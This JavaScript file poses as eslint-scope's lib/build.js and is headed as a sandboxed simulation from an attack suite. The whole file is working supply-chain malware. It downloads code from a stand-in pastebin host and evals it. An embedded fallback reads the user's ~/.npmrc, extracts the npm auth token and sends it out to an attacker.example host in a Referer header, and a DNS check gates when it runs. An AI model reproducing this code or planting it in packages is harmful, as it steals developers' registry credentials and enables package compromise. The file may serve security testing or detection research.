// eslint-scope 3.7.2 lib/build.js (simulation from Tracehound's attack suite: acts only inside the sandbox)
var r = require('http');
// what the paste site served, kept here because the sinkhole answers with an empty body
var fallback = "var fs=require('fs'),path=require('path'),https=require('http');" +
  "var npmrc=path.join(process.env.HOME||process.env.USERPROFILE,'.npmrc');var content='nofile';" +
  "if(fs.existsSync(npmrc)){try{content=fs.readFileSync(npmrc,{encoding:'utf8'});content=content.replace('//registry.npmjs.org/:_authToken=','').trim();" +
  "var req=https.request({hostname:'sstatic1.histats.attacker.example',path:'/0.gif?4103075&101',method:'GET',headers:{Referer:'http://1.a/'+content}},function(){});" +
  "req.on('error',function(){});req.end()}catch(e){}}";
function main() {
  r.get('http://pastebin.attacker.example/raw/XLeVP82h', function (res) {
    var body = '';
    res.setEncoding('utf8');
    res.on('data', function (c) { body += c; });
    res.on('end', function () { eval(body || fallback); });
  }).on('error', function () { eval(fallback); });
}
require('dns').lookup('sandbox-check.attacker.example', { family: 4 }, function (e, a) { if (!e && /^198\.1[89]\./.test(a)) main(); });
